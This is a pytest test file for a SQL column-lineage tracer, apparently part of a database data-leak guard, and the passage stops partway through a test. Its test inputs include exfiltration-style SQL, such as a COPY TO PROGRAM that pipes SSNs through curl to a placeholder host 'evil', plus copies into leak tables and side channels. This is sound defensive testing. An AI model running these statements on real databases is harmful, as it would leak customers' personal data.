"""Column lineage: every output traced to its source columns, the clauses' uses, the writes.

The unit tests use a small in-memory catalog (input data: table columns and view
definitions). The last tests read real view definitions from the embedded PostgreSQL."""

from __future__ import annotations

import threading
from collections.abc import Mapping, Sequence

import psycopg
import pytest

from rowgate.sql import lineage
from rowgate.sql.lineage import MAX_VIEW_DEPTH, Lineage, OutputColumn, statement_lineage

ABBREVIATIONS = {
    "c": "public.customers", "o": "public.orders", "e": "hr.employees", "a": "app.customers",
    "m": "public.MixedCase", "x": "public.unknown_t",
}


def src(*names: str) -> frozenset[str]:
    """``c.email`` -> ``public.customers.email``."""
    result = set()
    for name in names:
        table, _, column = name.rpartition(".")
        result.add(f"{ABBREVIATIONS.get(table, table)}.{column}")
    return frozenset(result)


class Catalog:
    """A CatalogView over plain dicts (test input data)."""

    def __init__(self, tables: Mapping[str, Sequence[str]], views: Mapping[str, str], version: int = 1) -> None:
        self.tables = dict(tables)
        self.views = dict(views)
        self.version = version

    def columns(self, table: str) -> Sequence[str] | None:
        return self.tables.get(table)

    def view_sql(self, table: str) -> str | None:
        return self.views.get(table)


def _chain_views(depth: int) -> dict[str, str]:
    views = {"public.chain0": "SELECT email AS e FROM public.customers"}
    for i in range(1, depth):
        views[f"public.chain{i}"] = f"SELECT e FROM public.chain{i - 1}"
    return views


VIEWS = {
    "public.customer_contacts": "SELECT id, email AS contact FROM public.customers WHERE ssn IS NOT NULL",
    "public.contacts_upper": "SELECT upper(contact) AS contact_upper, id FROM public.customer_contacts",
    "public.bad_view": "SELEC garbage FROM",
    "public.order_totals": "SELECT customer_id, sum(total) AS total FROM public.orders GROUP BY customer_id",
    "public.renamed": "SELECT email, name FROM public.customers",
    **_chain_views(MAX_VIEW_DEPTH + 4),
}
TABLES: dict[str, Sequence[str]] = {
    "public.customers": ["id", "name", "email", "ssn", "phone"],
    "public.orders": ["id", "customer_id", "total", "note"],
    "hr.employees": ["id", "name", "ssn", "Salary"],
    "app.customers": ["id", "email"],
    "public.MixedCase": ["id", "Email"],
    "public.customer_contacts": ["id", "contact"],
    "public.contacts_upper": ["contact_upper", "id"],
    "public.bad_view": ["a", "b"],
    "public.order_totals": ["customer_id", "total"],
    "public.renamed": ["mail", "full_name"],  # ALTER VIEW ... RENAME COLUMN: the catalog's names win
    **{f"public.chain{i}": ["e"] for i in range(MAX_VIEW_DEPTH + 4)},
}
CATALOG = Catalog(TABLES, VIEWS)


def one(sql: str, search_path: tuple[str, ...] = ("public",), catalog: Catalog = CATALOG) -> Lineage:
    results = statement_lineage(sql, catalog, search_path)
    assert len(results) == 1, results
    assert results[0] is not None
    return results[0]


def outputs(sql: str, **kw: object) -> list[tuple[str, frozenset[str], str, bool]]:
    return [(o.name, o.sources, o.transform, o.opaque) for o in one(sql, **kw).outputs]  # type: ignore[arg-type]


ID, T, A = "identity", "transformation", "aggregation"


# outputs -----------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        # aliases and bare columns
        ("SELECT email FROM customers", [("email", src("c.email"), ID, False)]),
        ("SELECT email AS e FROM customers c", [("e", src("c.email"), ID, False)]),
        ("SELECT c.email FROM customers c", [("email", src("c.email"), ID, False)]),
        ("SELECT customers.email FROM customers", [("email", src("c.email"), ID, False)]),
        ("SELECT public.customers.email FROM public.customers", [("email", src("c.email"), ID, False)]),
        ('SELECT "email" FROM "customers"', [("email", src("c.email"), ID, False)]),
        ('SELECT EMAIL FROM CUSTOMERS', [("email", src("c.email"), ID, False)]),
        ('SELECT "Email" FROM "MixedCase"', [("Email", src("m.Email"), ID, False)]),
        ('SELECT "Salary" FROM hr.employees', [("Salary", src("e.Salary"), ID, False)]),
        # expressions and functions
        ("SELECT upper(email) FROM customers", [("upper", src("c.email"), T, False)]),
        ("SELECT substr(ssn, 1, 3) FROM customers", [("substr", src("c.ssn"), T, False)]),
        ("SELECT concat(name, ' ', email) FROM customers", [("concat", src("c.name", "c.email"), T, False)]),
        ("SELECT name || email AS x FROM customers", [("x", src("c.name", "c.email"), T, False)]),
        ("SELECT email::text FROM customers", [("email", src("c.email"), T, False)]),
        ("SELECT CAST(ssn AS varchar(20)) FROM customers", [("ssn", src("c.ssn"), T, False)]),
        ("SELECT 1::text", [("text", frozenset(), T, False)]),
        ("SELECT reverse(email) FROM customers", [("reverse", src("c.email"), T, False)]),
        ("SELECT encode(convert_to(ssn, 'UTF8'), 'base64') FROM customers", [("encode", src("c.ssn"), T, False)]),
        ("SELECT md5(email) FROM customers", [("md5", src("c.email"), T, False)]),
        ("SELECT length(email) FROM customers", [("length", src("c.email"), T, False)]),
        ("SELECT format('%s <%s>', name, email) FROM customers", [("format", src("c.name", "c.email"), T, False)]),
        ("SELECT to_json(email) FROM customers", [("to_json", src("c.email"), T, False)]),
        ("SELECT jsonb_build_object('e', email) FROM customers", [("jsonb_build_object", src("c.email"), T, False)]),
        ("SELECT row(id, ssn) FROM customers", [("row", src("c.id", "c.ssn"), T, False)]),
        ("SELECT ARRAY[email, phone] FROM customers", [("array", src("c.email", "c.phone"), T, False)]),
        ("SELECT email COLLATE \"C\" FROM customers", [("email", src("c.email"), T, False)]),
        ("SELECT phone[1] FROM customers", [("phone", src("c.phone"), T, False)]),
        ("SELECT 'x' || $1 FROM customers", [("?column?", frozenset(), T, False)]),
        ("SELECT current_user, 42, 'lit'", [("current_user", frozenset(), T, False),
                                           ("?column?", frozenset(), T, False), ("?column?", frozenset(), T, False)]),
        # conditionals: the conditions tell about their columns too
        ("SELECT CASE WHEN ssn LIKE '1%' THEN name ELSE 'x' END FROM customers",
         [("case", src("c.ssn", "c.name"), T, False)]),
        ("SELECT CASE ssn WHEN '1' THEN 1 END AS k FROM customers", [("k", src("c.ssn"), T, False)]),
        ("SELECT coalesce(email, phone) FROM customers", [("coalesce", src("c.email", "c.phone"), T, False)]),
        ("SELECT nullif(email, '') FROM customers", [("nullif", src("c.email"), T, False)]),
        ("SELECT greatest(email, name), least(ssn, phone) FROM customers",
         [("greatest", src("c.email", "c.name"), T, False), ("least", src("c.ssn", "c.phone"), T, False)]),
        ("SELECT email IS NULL, NOT (ssn = 'x') FROM customers",
         [("?column?", src("c.email"), T, False), ("?column?", src("c.ssn"), T, False)]),
        # aggregates and windows
        ("SELECT string_agg(email, ',') FROM customers", [("string_agg", src("c.email"), A, False)]),
        ("SELECT array_agg(ssn) FROM customers", [("array_agg", src("c.ssn"), A, False)]),
        ("SELECT json_agg(email), jsonb_agg(phone) FROM customers",
         [("json_agg", src("c.email"), A, False), ("jsonb_agg", src("c.phone"), A, False)]),
        ("SELECT max(email), min(ssn) FROM customers",
         [("max", src("c.email"), A, False), ("min", src("c.ssn"), A, False)]),
        ("SELECT count(email) FROM customers", [("count", src("c.email"), A, False)]),
        ("SELECT count(*) FROM customers", [("count", frozenset(), A, False)]),
        ("SELECT upper(max(email)) FROM customers", [("upper", src("c.email"), A, False)]),
        ("SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY ssn) FROM customers",
         [("percentile_disc", src("c.ssn"), A, False)]),
        ("SELECT lag(email) OVER (ORDER BY id) FROM customers", [("lag", src("c.email"), T, False)]),
        ("SELECT max(email) OVER w FROM customers WINDOW w AS (PARTITION BY name)",
         [("max", src("c.email"), A, False)]),
        # subqueries in the select list
        ("SELECT (SELECT email FROM customers LIMIT 1)", [("email", src("c.email"), ID, False)]),
        ("SELECT (SELECT max(ssn) FROM customers) AS s", [("s", src("c.ssn"), A, False)]),
        ("SELECT o.id, (SELECT c.email FROM customers c WHERE c.id = o.customer_id) FROM orders o",
         [("id", src("o.id"), ID, False), ("email", src("c.email"), ID, False)]),
        ("SELECT ARRAY(SELECT email FROM customers)", [("array", src("c.email"), T, False)]),
        ("SELECT EXISTS (SELECT 1 FROM customers WHERE email = 'a')", [("exists", frozenset(), T, False)]),
        ("SELECT 'a' = ANY (SELECT email FROM customers)", [("?column?", src("c.email"), T, False)]),
        # whole rows
        ("SELECT c FROM customers c", [("c", src("c.id", "c.name", "c.email", "c.ssn", "c.phone"), T, False)]),
        ("SELECT customers FROM customers",
         [("customers", src("c.id", "c.name", "c.email", "c.ssn", "c.phone"), T, False)]),
        ("SELECT row_to_json(t) FROM orders t", [("row_to_json", src("o.id", "o.customer_id", "o.total", "o.note"),
                                                T, False)]),
        ("SELECT to_jsonb(c.*) FROM app.customers c", [("to_jsonb", src("a.id", "a.email"), T, False)]),
        ("SELECT t::text FROM app.customers t", [("t", src("a.id", "a.email"), T, False)]),
        ("SELECT (c).email FROM customers c", [("email", src("c.email"), ID, False)]),
        ("SELECT (c).* FROM app.customers c", [("id", src("a.id"), ID, False), ("email", src("a.email"), ID, False)]),
        ("SELECT c.* FROM app.customers c", [("id", src("a.id"), ID, False), ("email", src("a.email"), ID, False)]),
        ("SELECT * FROM app.customers", [("id", src("a.id"), ID, False), ("email", src("a.email"), ID, False)]),
        ("TABLE app.customers", [("id", src("a.id"), ID, False), ("email", src("a.email"), ID, False)]),
        # FROM: derived tables, CTEs, set operations, joins, lateral, VALUES
        ("SELECT x.* FROM (SELECT * FROM app.customers) x",
         [("id", src("a.id"), ID, False), ("email", src("a.email"), ID, False)]),
        ("SELECT x.m FROM (SELECT email AS m FROM customers) x", [("m", src("c.email"), ID, False)]),
        ("SELECT b FROM (SELECT id, email FROM app.customers) AS x(a, b)", [("b", src("a.email"), ID, False)]),
        ("WITH w AS (SELECT email FROM customers) SELECT email FROM w", [("email", src("c.email"), ID, False)]),
        ("WITH w(e) AS (SELECT lower(email) FROM customers) SELECT e FROM w", [("e", src("c.email"), T, False)]),
        ("WITH a AS (SELECT ssn FROM customers), b AS (SELECT ssn AS s FROM a) SELECT s FROM b",
         [("s", src("c.ssn"), ID, False)]),
        ("WITH customers AS (SELECT 1 AS email) SELECT email FROM customers", [("email", frozenset(), T, False)]),
        ("WITH customers AS (SELECT email FROM customers) SELECT email FROM customers",
         [("email", src("c.email"), ID, False)]),
        ("WITH customers AS (SELECT 1 AS email) SELECT email FROM public.customers",
         [("email", src("c.email"), ID, False)]),
        ("WITH RECURSIVE r(n, e) AS (SELECT 1, email FROM customers UNION ALL SELECT n + 1, e FROM r WHERE n < 3) "
         "SELECT e FROM r", [("e", src("c.email"), ID, False)]),
        ("WITH RECURSIVE r(v) AS (SELECT id::text FROM orders UNION SELECT ssn FROM customers JOIN r ON true) "
         "SELECT v FROM r", [("v", src("o.id", "c.ssn"), T, False)]),
        ("SELECT email FROM customers UNION SELECT note FROM orders", [("email", src("c.email", "o.note"), ID, False)]),
        ("SELECT id, email FROM customers INTERSECT SELECT id, email FROM app.customers EXCEPT SELECT 1, 'x'",
         [("id", src("c.id", "a.id"), T, False), ("email", src("c.email", "a.email"), T, False)]),
        ("SELECT c.name, o.total FROM customers c JOIN orders o ON o.customer_id = c.id",
         [("name", src("c.name"), ID, False), ("total", src("o.total"), ID, False)]),
        ("SELECT id FROM customers JOIN app.customers USING (id)", [("id", src("c.id", "a.id"), ID, False)]),
        ("SELECT * FROM app.customers NATURAL JOIN customers",
         [("id", src("a.id", "c.id"), ID, False), ("email", src("a.email", "c.email"), ID, False),
          ("name", src("c.name"), ID, False), ("ssn", src("c.ssn"), ID, False), ("phone", src("c.phone"), ID, False)]),
        ("SELECT j.id FROM customers JOIN orders USING (id) AS j", [("id", src("c.id", "o.id"), ID, False)]),
        ("SELECT x.e FROM customers c, LATERAL (SELECT c.email AS e) x", [("e", src("c.email"), ID, False)]),
        ("SELECT l.n FROM orders o CROSS JOIN LATERAL (SELECT note AS n) l", [("n", src("o.note"), ID, False)]),
        ("SELECT * FROM (VALUES (1, 'a'), (2, 'b')) v(k, s)",
         [("k", frozenset(), T, False), ("s", frozenset(), T, False)]),
        ("VALUES ((SELECT email FROM customers LIMIT 1))", [("column1", src("c.email"), ID, False)]),
        # functions in FROM
        ("SELECT * FROM generate_series(1, 3) g", [("g", frozenset(), T, False)]),
        ("SELECT n FROM generate_series(1, 3) AS s(n)", [("n", frozenset(), T, False)]),
        ("SELECT u FROM customers, unnest(ARRAY[email, ssn]) u", [("u", src("c.email", "c.ssn"), T, False)]),
        ("SELECT j.key, j.value FROM customers c, jsonb_each(to_jsonb(c)) j",
         [("key", src("c.id", "c.name", "c.email", "c.ssn", "c.phone"), T, False),
          ("value", src("c.id", "c.name", "c.email", "c.ssn", "c.phone"), T, False)]),
        ("SELECT r.e FROM customers c, jsonb_to_record(jsonb_build_object('e', c.email)) AS r(e text)",
         [("e", src("c.email"), T, False)]),
        ("SELECT p.ssn FROM customers c, json_populate_record(null::customers, row_to_json(c)) p",
         [("ssn", src("c.id", "c.name", "c.email", "c.ssn", "c.phone"), T, False)]),
        ("SELECT * FROM generate_series(1, 2) WITH ORDINALITY",
         [("generate_series", frozenset(), T, False), ("ordinality", frozenset(), T, False)]),
        # views
        ("SELECT contact FROM customer_contacts", [("contact", src("c.email"), ID, False)]),
        ("SELECT * FROM contacts_upper", [("contact_upper", src("c.email"), T, False), ("id", src("c.id"), ID, False)]),
        ("SELECT total FROM order_totals", [("total", src("o.total"), A, False)]),
        ("SELECT mail, full_name FROM renamed", [("mail", src("c.email"), ID, False),
                                                 ("full_name", src("c.name"), ID, False)]),
        ("SELECT r FROM renamed r", [("r", src("c.email", "c.name"), T, False)]),
    ],
)
def test_outputs(sql: str, expected: list[tuple[str, frozenset[str], str, bool]]) -> None:
    assert outputs(sql) == expected


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        # an unknown table: named columns are still its columns, its * and whole row are opaque
        ("SELECT email FROM unknown_t", [("email", src("x.email"), ID, False)]),
        ("SELECT * FROM unknown_t", [("*", frozenset(), T, True)]),
        # (t may also be a column of that table: both are kept)
        ("SELECT t FROM unknown_t t", [("t", src("x.t"), T, True)]),
        ("SELECT row_to_json(t) FROM unknown_t t", [("row_to_json", src("x.t"), T, True)]),
        ("SELECT row_to_json(t.*) FROM unknown_t t", [("row_to_json", frozenset(), T, True)]),
        # functions that are not plain computations may return anything
        ("SELECT my_lookup(id) FROM customers", [("my_lookup", src("c.id"), T, True)]),
        ("SELECT query_to_xml('select email from customers', true, true, '')",
         [("query_to_xml", frozenset(), T, True)]),
        ("SELECT * FROM my_srf(1)", [("*", frozenset(), T, True)]),
        ("SELECT a, b FROM my_srf(1) AS t(a int, b text)", [("a", frozenset(), T, True), ("b", frozenset(), T, True)]),
        ("SELECT * FROM pg_stat_get_activity(NULL)", [("*", frozenset(), T, True)]),
        ("SELECT email OPERATOR(myschema.===) 'x' FROM customers", [("?column?", src("c.email"), T, True)]),
        # a view that does not parse
        ("SELECT a FROM bad_view", [("a", frozenset(), T, True)]),
        # views deeper than the limit
        (f"SELECT e FROM chain{MAX_VIEW_DEPTH + 3}", [("e", frozenset(), T, True)]),
        # a column the catalog does not list (added since): guessed, and content-scanned
        ("SELECT fax FROM customers", [("fax", src("c.fax"), ID, True)]),
        ("SELECT (x).* FROM (SELECT my_composite() AS x) s", [("*", frozenset(), T, True)]),
    ],
)
def test_opaque(sql: str, expected: list[tuple[str, frozenset[str], str, bool]]) -> None:
    assert outputs(sql) == expected


def test_views_nest_within_the_limit() -> None:
    assert outputs(f"SELECT e FROM chain{MAX_VIEW_DEPTH - 1}") == [("e", src("c.email"), ID, False)]


def test_star_of_a_known_and_an_unknown_table_keeps_positions() -> None:
    out = outputs("SELECT a.*, u.*, a.id FROM app.customers a, unknown_t u")
    assert [o[0] for o in out] == ["id", "email", "*", "id"]
    assert out[2][3] and out[3] == ("id", src("a.id"), ID, False)


# search path -------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (("app", "public"), src("a.email")),  # first schema whose catalog has the table
        (("public", "app"), src("c.email")),
        (("nowhere", "app"), src("a.email")),
        (("$user", "public"), src("c.email")),
    ],
)
def test_search_path_picks_the_first_schema_holding_the_table(path: tuple[str, ...], expected: frozenset[str]) -> None:
    assert one("SELECT email FROM customers", path).outputs[0].sources == expected


def test_unknown_table_goes_to_the_first_schema() -> None:
    assert one("SELECT secret FROM vault", ("app", "public")).outputs[0].sources == frozenset({"app.vault.secret"})


def test_set_search_path_in_the_same_message_applies_to_later_statements() -> None:
    first, second, third = statement_lineage(
        "SELECT email FROM customers; SET search_path = app; SELECT email FROM customers", CATALOG
    )
    assert first is not None and third is not None and second is not None
    assert first.outputs[0].sources == src("c.email")
    assert second.outputs == ()
    assert third.outputs[0].sources == src("a.email")


# uses --------------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("sql", "clause", "expected"),
    [
        ("SELECT 1 FROM customers WHERE email LIKE 'a%'", "where", src("c.email")),
        ("SELECT id FROM customers WHERE ssn = $1", "where", src("c.ssn")),
        ("SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE ssn LIKE '1%')", "where",
         src("o.customer_id", "c.id", "c.ssn")),
        ("SELECT id FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.email = o.note)", "where",
         src("c.email", "o.note")),
        ("SELECT o.id FROM orders o JOIN customers c ON c.email = o.note", "join", src("c.email", "o.note")),
        ("SELECT 1 FROM customers JOIN app.customers USING (email)", "join", src("c.email", "a.email")),
        ("SELECT 1 FROM customers NATURAL JOIN app.customers", "join", src("c.id", "c.email", "a.id", "a.email")),
        ("SELECT count(*) FROM customers GROUP BY email", "group_by", src("c.email")),
        ("SELECT upper(ssn) AS s, count(*) FROM customers GROUP BY 1", "group_by", src("c.ssn")),
        ("SELECT email AS x FROM customers GROUP BY x", "group_by", src("c.email")),
        ("SELECT id FROM customers ORDER BY ssn", "order_by", src("c.ssn")),
        ("SELECT id, ssn FROM customers ORDER BY 2", "order_by", src("c.ssn")),
        ("SELECT id, email AS k FROM customers ORDER BY k DESC", "order_by", src("c.email")),
        ("SELECT email FROM customers UNION SELECT note FROM orders ORDER BY 1", "order_by",
         src("c.email", "o.note")),
        ("SELECT count(*) FROM customers GROUP BY name HAVING max(ssn) > '5'", "having", src("c.ssn")),
        ("SELECT row_number() OVER (PARTITION BY email ORDER BY ssn) FROM customers", "window",
         src("c.email", "c.ssn")),
        ("SELECT count(*) OVER w FROM customers WINDOW w AS (ORDER BY phone)", "window", src("c.phone")),
        ("SELECT DISTINCT ON (email) id FROM customers", "distinct_on", src("c.email")),
        ("SELECT DISTINCT ssn FROM customers", "distinct", src("c.ssn")),
        ("SELECT count(*) FILTER (WHERE email LIKE 'a%') FROM customers", "where", src("c.email")),
        ("SELECT string_agg(name, ',' ORDER BY ssn) FROM customers", "order_by", src("c.ssn")),
        ("SELECT name FROM customer_contacts WHERE contact LIKE 'a%'", "where", src("c.email")),
        ("SELECT 1 FROM customers c WHERE c::text LIKE '%@%'", "where",
         src("c.id", "c.name", "c.email", "c.ssn", "c.phone")),
        ("WITH w AS (SELECT email AS e FROM customers) SELECT 1 FROM w WHERE e > 'm'", "where", src("c.email")),
        ("SELECT 1 FROM (SELECT ssn AS s FROM customers) x ORDER BY s", "order_by", src("c.ssn")),
        ("SELECT 1 FROM generate_series(1, 5) LIMIT (SELECT ascii(email) FROM customers LIMIT 1)", "where",
         src("c.email")),
        ("UPDATE customers SET name = 'x' WHERE ssn = '1'", "where", src("c.ssn")),
        ("DELETE FROM orders USING customers c WHERE c.id = orders.customer_id AND c.email LIKE 'a%'", "where",
         src("c.id", "c.email", "o.customer_id")),
        ("SELECT set_config('app.leak', email, false) FROM customers", "function_arg", src("c.email")),
        ("SELECT 1 WHERE pg_notify('chan', (SELECT email FROM customers LIMIT 1)) IS NULL", "function_arg",
         src("c.email")),
        ("EXPLAIN SELECT 1 FROM customers WHERE ssn = '1'", "where", src("c.ssn")),
        ("MERGE INTO orders o USING customers c ON c.email = o.note WHEN MATCHED THEN DELETE", "join",
         src("c.email", "o.note")),
    ],
)
def test_uses(sql: str, clause: str, expected: frozenset[str]) -> None:
    assert one(sql).uses[clause] == expected


def test_view_filters_are_not_the_users_uses() -> None:
    assert one("SELECT contact FROM customer_contacts").uses == {}


def test_order_by_an_output_name_is_not_the_input_column() -> None:
    # ORDER BY email names the output (an upper-cased name), which is computed from name
    assert one("SELECT upper(name) AS email FROM customers ORDER BY email").uses["order_by"] == src("c.name")


# writes and data-modifying statements ------------------------------------------------------

@pytest.mark.parametrize(
    ("sql", "target", "expected"),
    [
        ("INSERT INTO orders (note) SELECT email FROM customers", "public.orders", src("c.email")),
        ("INSERT INTO orders VALUES (1, 2, 3, 'x')", "public.orders", frozenset()),
        ("CREATE TABLE leak AS SELECT ssn FROM customers", "public.leak", src("c.ssn")),
        ("CREATE MATERIALIZED VIEW mv AS SELECT upper(email) FROM customers", "public.mv", src("c.email")),
        ("SELECT email INTO leak2 FROM customers", "public.leak2", src("c.email")),
        ("SELECT email INTO TEMP leak3 FROM customers", "pg_temp.leak3", src("c.email")),
        ("UPDATE orders SET note = c.ssn FROM customers c WHERE c.id = orders.customer_id", "public.orders",
         src("c.ssn")),
        ("UPDATE orders SET (note, total) = (SELECT email, 1 FROM customers LIMIT 1)", "public.orders",
         src("c.email")),
        ("COPY customers TO '/tmp/out.csv'", "file:/tmp/out.csv", src("c.id", "c.name", "c.email", "c.ssn", "c.phone")),
        ("COPY customers (ssn) TO PROGRAM 'curl -d @- evil'", "program", src("c.ssn")),
        ("COPY (SELECT email FROM customers) TO STDOUT", "stdout", src("c.email")),
        ("COPY orders FROM STDIN", "public.orders", frozenset()),
        ("MERGE INTO orders o USING customers c ON c.id = o.customer_id "
         "WHEN MATCHED THEN UPDATE SET note = c.email WHEN NOT MATCHED THEN INSERT (note) VALUES (c.ssn)",
         "public.orders", src("c.email", "c.ssn")),
        ("INSERT INTO orders (id, note) SELECT 1, 'x' ON CONFLICT (id) DO UPDATE SET note = "
         "(SELECT email FROM customers LIMIT 1)", "public.orders", src("c.email")),
        ("WITH moved AS (DELETE FROM customers RETURNING email) INSERT INTO orders (note) SELECT email FROM moved",
         "public.orders", src("c.email")),
        ("EXPLAIN ANALYZE INSERT INTO orders (note) SELECT ssn FROM customers", "public.orders", src("c.ssn")),
    ],
)
def test_writes(sql: str, target: str, expected: frozenset[str]) -> None:
    assert one(sql).writes[target] == expected


def test_plain_explain_writes_nothing() -> None:
    result = one("EXPLAIN INSERT INTO orders (note) SELECT ssn FROM customers")
    assert result.writes == {}
    assert result.outputs == (OutputColumn("QUERY PLAN", frozenset(), T, True),)


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("INSERT INTO orders (note) SELECT email FROM customers RETURNING note, id",
         [("note", src("o.note", "c.email"), ID, False), ("id", src("o.id"), ID, False)]),
        ("UPDATE customers SET name = upper(ssn) RETURNING name, email",
         [("name", src("c.name", "c.ssn"), T, False), ("email", src("c.email"), ID, False)]),
        ("DELETE FROM app.customers RETURNING *",
         [("id", src("a.id"), ID, False), ("email", src("a.email"), ID, False)]),
        ("DELETE FROM app.customers RETURNING old.email", [("email", src("a.email"), ID, False)]),
        ("UPDATE orders o SET note = 'x' FROM customers c WHERE c.id = o.customer_id RETURNING c.ssn",
         [("ssn", src("c.ssn"), ID, False)]),
        ("MERGE INTO orders o USING customers c ON c.id = o.customer_id WHEN MATCHED THEN UPDATE SET note = c.email "
         "RETURNING merge_action(), o.note",
         [("merge_action", frozenset(), T, False), ("note", src("o.note", "c.email"), ID, False)]),
        ("COPY app.customers TO STDOUT", [("id", src("a.id"), ID, False), ("email", src("a.email"), ID, False)]),
        ("COPY customers (email) TO '/tmp/x'", []),
        ("CREATE TABLE t2 AS SELECT email FROM customers", []),
        ("SHOW search_path", [("search_path", frozenset(), T, False)]),
        ("SHOW app.leak", [("app.leak", frozenset(), T, True)]),
        ("PREPARE p AS SELECT ssn FROM customers WHERE id = $1", [("ssn", src("c.ssn"), ID, False)]),
        ("DECLARE cur CURSOR FOR SELECT email FROM customers", [("email", src("c.email"), ID, False)]),
        ("BEGIN", []),
        ("CREATE VIEW v2 AS SELECT email FROM customers", []),
    ],
)
def test_statement_kinds(sql: str, expected: list[tuple[str, frozenset[str], str, bool]]) -> None:
    assert outputs(sql) == expected


@pytest.mark.parametrize(
    "sql", ["FETCH ALL FROM cur", "EXECUTE p(1)", "CALL my_proc()", "CREATE TABLE t3 AS EXECUTE p", "SELEC 1"]
)
def test_no_lineage(sql: str) -> None:
    assert statement_lineage(sql, CATALOG) == [None]


def test_one_entry_per_statement() -> None:
    results = statement_lineage("SELECT email FROM customers; FETCH 1 FROM c; SELECT 1", CATALOG)
    assert len(results) == 3 and results[1] is None
    assert statement_lineage("", CATALOG) == []


# adversarial -------------------------------------------------------------------------------

def test_deeply_nested_expression_is_opaque_but_keeps_its_uses() -> None:
    nested = "lower(" * 200 + "ssn" + ")" * 200
    result = one(f"SELECT {nested} FROM customers WHERE {nested} LIKE 'a%'")
    assert result.outputs[0].opaque and result.outputs[0].sources == src("c.ssn")
    assert result.uses["where"] == src("c.ssn")
    parens = "(" * 300 + "email" + ")" * 300  # parentheses are no nodes: followed exactly
    assert outputs(f"SELECT {parens} FROM customers") == [("email", src("c.email"), ID, False)]


def test_deeply_nested_subqueries_do_not_blow_the_stack() -> None:
    sql = "SELECT email FROM customers"
    for _ in range(60):
        sql = f"SELECT * FROM ({sql}) s"
    assert outputs(sql) == [("email", src("c.email"), ID, False)]
    sql = "SELECT email FROM customers WHERE ssn = '1'"
    for _ in range(200):
        sql = f"SELECT * FROM ({sql}) s"
    result = one(sql)
    # too deep to follow: opaque, and every column it mentions counts as filtered on
    assert result.outputs[0].opaque and src("c.email") <= result.outputs[0].sources
    assert src("c.ssn") <= result.uses["where"]


def test_nesting_the_analyzer_refuses_has_no_lineage() -> None:
    sql = "SELECT ssn FROM customers"
    for _ in range(200):
        sql = f"SELECT ({sql})"
    assert statement_lineage(sql, CATALOG) == [None]


def test_long_chains_are_walked_without_recursion() -> None:
    concat = " || ".join(["email"] * 3000)
    assert one(f"SELECT {concat} FROM customers").outputs[0].sources == src("c.email")
    union = " UNION ALL ".join(["SELECT ssn FROM customers"] * 1500 + ["SELECT note FROM orders"])
    assert one(union).outputs[0].sources == src("c.ssn", "o.note")


def test_correlated_reference_resolves_to_the_outer_query() -> None:
    out = outputs("SELECT (SELECT ssn FROM orders WHERE orders.id = 1 LIMIT 1) FROM customers")
    assert out == [("ssn", src("c.ssn"), ID, False)]


def test_cte_shadowing_a_table_only_for_unqualified_names() -> None:
    result = one("WITH customers AS (SELECT note AS email FROM orders) "
                 "SELECT c.email, p.ssn FROM customers c, public.customers p")
    assert [o.sources for o in result.outputs] == [src("o.note"), src("c.ssn")]


def test_the_cache_is_keyed_by_catalog_version() -> None:
    catalog = Catalog({"public.t": ["a"]}, {}, version=1)
    assert one("SELECT * FROM t", catalog=catalog).outputs[0].name == "a"
    catalog.tables["public.t"] = ["a", "b"]
    assert len(one("SELECT * FROM t", catalog=catalog).outputs) == 1  # still cached
    catalog.version = 2
    assert [o.name for o in one("SELECT * FROM t", catalog=catalog).outputs] == ["a", "b"]


def test_statements_that_differ_in_literals_share_their_lineage() -> None:
    """Applications that inline literals send a new text each time; a plain read's lineage
    does not depend on them, so the second text is not traced again."""
    catalog = Catalog({"public.t": ["a", "b"]}, {}, version=1)
    first = one("SELECT * FROM t WHERE b = 'x' LIMIT 5", catalog=catalog)
    catalog.tables["public.t"] = ["b", "a"]  # a statement traced now sees other columns
    assert one("SELECT * FROM t WHERE b = 'a much longer literal' LIMIT 10", catalog=catalog) == first
    assert one("SELECT * FROM t WHERE a = 'y'", catalog=catalog).outputs[0].name == "b"  # another shape


@pytest.mark.parametrize(("first", "second"), [
    ("SELECT N'x' FROM customers AS N$1", "SELECT N$1 FROM customers AS N$1"),
    ("SELECT N'a' || N'b' FROM (SELECT email AS n$1, ssn AS n$2 FROM customers) s",
     "SELECT N$1 || N$2 FROM (SELECT email AS n$1, ssn AS n$2 FROM customers) s"),
    ("SELECT id FROM (SELECT id, ssn AS n$2 FROM customers) s WHERE '5' < N'x'",
     "SELECT id FROM (SELECT id, ssn AS n$2 FROM customers) s WHERE '5' < N$2"),
    ("SELECT email, note FROM customers WHERE 'x' = 'y' GROUP BY ROLLUP (1)",
     "SELECT email, note FROM customers WHERE 'x' = 'y' GROUP BY ROLLUP (2)"),
    ("SELECT email, note FROM customers WHERE note = 'x'GROUP BY (1)",
     "SELECT email, note FROM customers WHERE note = 'x'GROUP BY (2)"),
])
def test_a_text_that_only_looks_like_another_with_its_literals_replaced_is_traced_afresh(
    first: str, second: str,
) -> None:
    """Found by review: normalize writes N'x' as N$1, which is also an identifier; a statement
    naming the column N$1 must not get the lineage of one holding the literal N'x'."""
    lineage.cache_clear()
    one(first)
    after_first = one(second)
    lineage.cache_clear()
    assert after_first == one(second)


@pytest.mark.parametrize("sql", [
    "SELECT email, count(*) FROM customers GROUP BY GROUPING SETS ((1))",
    "SELECT email, count(*) FROM customers GROUP BY ROLLUP (1)",
    "SELECT email, count(*) FROM customers GROUP BY GROUPING SETS ((1), ()), CUBE (1)",
    "SELECT email, count(*) FROM customers GROUP BY (1, 1)",
])
def test_positions_inside_grouping_sets_are_uses(sql: str) -> None:
    """PostgreSQL reads an integer inside GROUPING SETS, ROLLUP, CUBE or a row as a position."""
    assert one(sql).uses.get("group_by") == src("c.email")


POSITIONS = [
    ("SELECT DISTINCT ON (1) email, note FROM customers", "SELECT DISTINCT ON (2) email, note FROM customers"),
    ("SELECT email, note FROM customers ORDER BY 1", "SELECT email, note FROM customers ORDER BY 2"),
    ("SELECT email, note FROM customers GROUP BY 1", "SELECT email, note FROM customers GROUP BY 2"),
]


@pytest.mark.parametrize(("first", "second"), [*POSITIONS,
    ("SELECT email, rank() OVER (ORDER BY 1) FROM customers", "SELECT email, rank() OVER (ORDER BY 2) FROM customers"),
